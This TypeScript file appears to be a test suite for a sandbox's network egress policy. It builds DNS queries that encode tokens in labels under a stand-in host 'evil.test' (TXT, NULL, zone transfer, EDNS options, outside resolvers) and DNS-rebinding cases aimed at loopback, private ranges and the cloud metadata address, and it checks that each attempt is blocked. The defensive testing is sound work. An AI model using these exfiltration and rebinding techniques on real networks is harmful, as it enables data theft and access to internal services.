import { encodeName, type Zone } from '../../../support/world/resolver.ts'
import { allowedName, pieces, server4, server6, tokenOf, zone, type EgressCase, type EgressRoom } from '../case.ts'

const inside = '198.18.0.1'

interface Question {
  readonly type?: number
  readonly flags?: number
  readonly questions?: number
  /** Behind the question: additional records. */
  readonly additional?: Buffer
}

function question(name: Buffer, { type = 1, flags = 0x0100, questions = 1, additional }: Question = {}): string {
  const head = Buffer.alloc(12)
  head.writeUInt16BE(0x1234, 0)
  head.writeUInt16BE(flags, 2)
  head.writeUInt16BE(questions, 4)
  head.writeUInt16BE(additional === undefined ? 0 : 1, 10)
  const tail = Buffer.from([type >> 8, type & 255, 0, 1])
  const asked = Array.from({ length: questions }, () => Buffer.concat([name, tail]))
  return Buffer.concat([head, ...asked, additional ?? Buffer.alloc(0)]).toString('hex')
}

/** OPT (RFC 6891) with one option. */
function option(code: number, bytes: Buffer): Buffer {
  const head = Buffer.from([0, 0, 41, 4, 0xd0, 0, 0, 0, 0, 0, 0, code >> 8, code & 255, 0, 0])
  head.writeUInt16BE(bytes.length, 13)
  head.writeUInt16BE(bytes.length + 4, 9)
  return Buffer.concat([head, bytes])
}

interface Asked {
  readonly id: string
  readonly title: string
  readonly query: string
  readonly over?: 'tcp'
  readonly host?: string
  readonly port?: number
}

const word = (id: string, below: string): Buffer => encodeName(`${tokenOf(id)}.${below}`)
const long = (id: string): Buffer => {
  const label = (at: number): string => `${tokenOf(id)}-${at}`.padEnd(63, 'x')
  return encodeName(`${label(1)}.${label(2)}.${label(3)}.evil.test`)
}

const asked: readonly Asked[] = [
  { id: 'txt', title: 'a TXT question below another’s name', query: question(word('txt', 'evil.test'), { type: 16 }) },
  {
    id: 'address',
    title: 'a question for an address below another’s name',
    query: question(word('address', 'evil.test')),
  },
  { id: 'below', title: 'a question below an allowed name', query: question(word('below', allowedName)) },
  {
    id: 'below-txt',
    title: 'a TXT question below an allowed name',
    query: question(word('below-txt', allowedName), { type: 16 }),
  },
  { id: 'long', title: 'three labels full of bytes', query: question(long('long'), { type: 16 }) },
  { id: 'null', title: 'a NULL question', query: question(word('null', 'evil.test'), { type: 10 }) },
  { id: 'any', title: 'a question for everything', query: question(word('any', 'evil.test'), { type: 255 }) },
  { id: 'axfr', title: 'a zone transfer', query: question(word('axfr', 'evil.test'), { type: 252 }), over: 'tcp' },
  { id: 'srv', title: 'a SRV question', query: question(word('srv', 'evil.test'), { type: 33 }) },
  {
    id: 'https',
    title: 'an HTTPS question below an allowed name',
    query: question(word('https', allowedName), { type: 65 }),
  },
  {
    id: 'reverse',
    title: 'a reverse lookup with bytes in it',
    query: question(word('reverse', '1.0.0.10.in-addr.arpa'), { type: 12 }),
  },
  {
    id: 'stream',
    title: 'a question over a stream',
    query: question(word('stream', 'evil.test'), { type: 16 }),
    over: 'tcp',
  },
  {
    id: 'edns',
    title: 'an option beside an allowed name',
    query: question(encodeName(allowedName), { additional: option(65001, Buffer.from(tokenOf('edns'))) }),
  },
  {
    id: 'cookie',
    title: 'a cookie beside an allowed name',
    query: question(encodeName(allowedName), { additional: option(10, Buffer.from(tokenOf('cookie'))) }),
  },
  { id: 'two', title: 'two questions at once', query: question(word('two', 'evil.test'), { questions: 2 }) },
  { id: 'notify', title: 'a NOTIFY', query: question(word('notify', 'evil.test'), { type: 6, flags: 0x2000 }) },
  { id: 'update', title: 'an UPDATE', query: question(word('update', 'evil.test'), { type: 6, flags: 0x2800 }) },
  {
    id: 'response',
    title: 'what is an answer and no question',
    query: question(word('response', 'evil.test'), { flags: 0x8180 }),
  },
  {
    id: 'nul',
    title: 'an allowed name with a NUL and more behind it',
    query: question(
      Buffer.concat([
        Buffer.from([3]),
        Buffer.from('api'),
        Buffer.from([4 + 13]),
        Buffer.from('test\0.gbx-nul.evl'),
        Buffer.of(0),
      ]),
    ),
  },
  {
    id: 'dots',
    title: 'an allowed name whose dots are in a label',
    query: question(Buffer.concat([Buffer.from([22]), Buffer.from('gbx-dots.evil.api.test'), Buffer.of(0)])),
  },
  {
    id: 'trailing',
    title: 'bytes behind a question',
    query: question(encodeName(allowedName)) + Buffer.from(tokenOf('trailing')).toString('hex'),
  },
]

const ask = ({ id, title, query, over, host = inside, port = 53 }: Asked): EgressCase => ({
  title,
  id,
  attack: 'egress-ask',
  args: { host, port, query, ...(over === undefined ? {} : { over }) },
})

const toTheStub = asked.map((one) => ({ ...ask(one), title: `${one.title} carries nothing out` }))

const elsewhere = [
  { id: 'other-udp', title: 'another resolver', host: '8.8.8.8' },
  { id: 'other-tcp', title: 'another resolver over a stream', host: '8.8.8.8', over: 'tcp' },
  { id: 'host-stub', title: 'the host’s stub resolver', host: '127.0.0.53' },
  { id: 'own-resolver', title: 'the resolver that the policy names', host: '9.9.9.9' },
  { id: 'own-resolver-tcp', title: 'the resolver that the policy names, over a stream', host: '9.9.9.9', over: 'tcp' },
  { id: 'mdns', title: 'the multicast group of mDNS', host: '224.0.0.251', port: 5353 },
  { id: 'mdns6', title: 'the IPv6 multicast group of mDNS', host: 'ff05::fb', port: 5353 },
  { id: 'llmnr', title: 'the multicast group of LLMNR', host: '224.0.0.252', port: 5355 },
  { id: 'stub-neighbour', title: 'an address beside the resolver’s', host: '198.18.0.3' },
].map(({ id, title, ...rest }): EgressCase => ({
  ...ask({
    ...rest,
    id,
    title,
    query: question(word(id, 'evil.test'), { type: 16 }),
    over: rest.over === 'tcp' ? 'tcp' : undefined,
  } as Asked),
  title: `${title} cannot be asked`,
}))

const many: EgressCase = {
  title: 'two hundred questions carry nothing out together',
  id: 'many',
  attack: 'egress-ask-many',
  args: { host: inside, name: 'evil.test', token: tokenOf('many'), count: 200 },
}

const wild: EgressCase = {
  title: 'a name below an allowed wildcard is not asked for before it is connected to',
  id: 'wild',
  attack: 'egress-ask',
  args: { host: inside, port: 53, query: question(word('wild', 'wild.test')) },
}

/** Questions as a way out. */
export const questionCases: readonly EgressCase[] = [...toTheStub, ...elsewhere, many, wild]

interface Lying {
  readonly id: string
  readonly what: string
  readonly records: Zone[string]
  readonly to: string
}

const a = (address: string): Zone[string] => ({ a: [address], ttl: 0 })
const aaaa = (address: string): Zone[string] => ({ aaaa: [address], ttl: 0 })

const lying: readonly Lying[] = [
  { id: 'to-loopback', what: 'the loopback', records: a('127.0.0.1'), to: '127.0.0.1' },
  { id: 'to-loopback2', what: 'another loopback address', records: a('127.1.2.3'), to: '127.1.2.3' },
  { id: 'to-zero', what: 'the address of no host', records: a('0.0.0.0'), to: '127.0.0.1' },
  { id: 'to-metadata', what: 'the metadata service', records: a('169.254.169.254'), to: '169.254.169.254' },
  { id: 'to-metadata6', what: 'the IPv6 metadata service', records: aaaa('fd00:ec2::254'), to: 'fd00:ec2::254' },
  { id: 'to-carrier', what: 'the carriers’ range', records: a('100.64.0.1'), to: '100.64.0.1' },
  { id: 'to-ten', what: '10/8', records: a('10.0.0.1'), to: '10.0.0.1' },
  { id: 'to-seventeen', what: '172.16/12', records: a('172.16.0.1'), to: '172.16.0.1' },
  { id: 'to-nineteen', what: '192.168/16', records: a('192.168.1.1'), to: '192.168.1.1' },
  { id: 'to-loopback6', what: 'the IPv6 loopback', records: aaaa('::1'), to: '::1' },
  { id: 'to-mapped', what: 'the loopback in the form of IPv6', records: aaaa('::ffff:127.0.0.1'), to: '127.0.0.1' },
  { id: 'to-compatible', what: 'the loopback in an old form of IPv6', records: aaaa('::127.0.0.1'), to: '::7f00:1' },
  {
    id: 'to-nat64',
    what: 'the metadata service behind a translator',
    records: aaaa('64:ff9b::a9fe:a9fe'),
    to: '64:ff9b::a9fe:a9fe',
  },
  {
    id: 'to-nat64-local',
    what: 'the loopback behind a local translator',
    records: aaaa('64:ff9b:1::7f00:1'),
    to: '64:ff9b:1::7f00:1',
  },
  { id: 'to-sixtofour', what: 'the loopback behind a tunnel', records: aaaa('2002:7f00:1::1'), to: '2002:7f00:1::1' },
  { id: 'to-unique-local', what: 'a unique local address', records: aaaa('fd00::1'), to: 'fd00::1' },
  { id: 'to-synthetic', what: 'an address that stands for names', records: a('198.18.0.1'), to: '198.18.0.1' },
  { id: 'to-documentation', what: 'an address of the documentation', records: a('192.0.2.1'), to: '192.0.2.1' },
  { id: 'to-multicast', what: 'a multicast group', records: a('224.0.0.1'), to: '224.0.0.1' },
  { id: 'to-alias', what: 'an alias of the loopback', records: { cname: 'to-loopback.test', ttl: 0 }, to: '' },
  { id: 'to-ring', what: 'an alias of itself', records: { cname: 'to-ring.test', ttl: 0 }, to: '' },
]

const get = (name: string, id?: string, port = 80): string =>
  `GET /${id === undefined ? '' : tokenOf(id)} HTTP/1.1\r\nHost: ${name}${port === 80 ? '' : `:${port}`}\r\n\r\n`

const toLies = lying.flatMap(({ id, what, records, to }): EgressCase[] =>
  // By the way that is taken by the relay, and by the one that the host takes itself.
  [8080, 80].map((port) => ({
    title: `an allowed name that is said to live at ${what} is not reached there, on port ${port}`,
    id: `${id}-${port}`,
    attack: 'egress-say',
    args: {
      name: `${id}.test`,
      port,
      ...('aaaa' in records ? { family: 6 } : {}),
      pieces: pieces(get(`${id}.test`, `${id}-${port}`, port)),
    },
    control: to === '' || to === '224.0.0.1' ? { unproven: 'there is nobody to connect to' } : { to, port },
  })),
)

const rebinding: readonly EgressCase[] = [
  {
    title: 'a name that moves is served as long as it is public',
    id: 'moves-first',
    attack: 'egress-say',
    args: { name: 'moves.test', port: 80, pieces: pieces(get('moves.test', 'moves-first')) },
    leaves: 'all',
    control: { unproven: 'it is no attack' },
  },
  {
    title: 'a name that was public and is now the loopback is not reached there (rebinding)',
    id: 'moves-then',
    attack: 'egress-say',
    args: { name: 'moves.test', port: 80, pieces: pieces(get('moves.test', 'moves-then')) },
  },
  {
    title: 'a name that was public and is now the loopback is not reached there by the proxy either',
    id: 'moves-proxy',
    attack: 'egress-say',
    args: {
      host: '198.18.0.2',
      port: 3128,
      pieces: pieces(`GET http://moves.test/gbx-moves-proxy HTTP/1.1\r\nHost: moves.test\r\n\r\n`),
    },
  },
  {
    title: 'of a name with a public and a private address only the public one is connected to',
    id: 'mixed',
    attack: 'egress-say',
    args: { name: 'mixed.test', port: 8080, pieces: pieces(get('mixed.test', 'mixed', 8080)) },
    leaves: 'all',
    control: { unproven: 'it is no attack' },
  },
]

const lyingNames = lying.map(({ id }) => `${id}.test`)
const moving = ['moves.test', 'mixed.test']

/** Names that are allowed, and a resolver that lies about them. */
export const rebindingRoom: EgressRoom = {
  name: 'names that are said to live where nobody may go',
  allow: [...lyingNames, ...moving].map((name) => `${name}:80,8080`),
  zone: {
    ...zone,
    ...Object.fromEntries(lying.map(({ id, records }) => [`${id}.test`, records])),
    'moves.test': [
      { a: [server4], ttl: 0 },
      { a: ['127.0.0.1'], ttl: 0 },
    ],
    'mixed.test': { a: ['127.0.0.1', server4, '10.0.0.1'], aaaa: ['::1', server6], ttl: 0 },
  },
  servers: [server4, server6],
  ports: [80, 8080],
  names: [...lyingNames, ...moving],
  cases: [...toLies, ...rebinding],
}
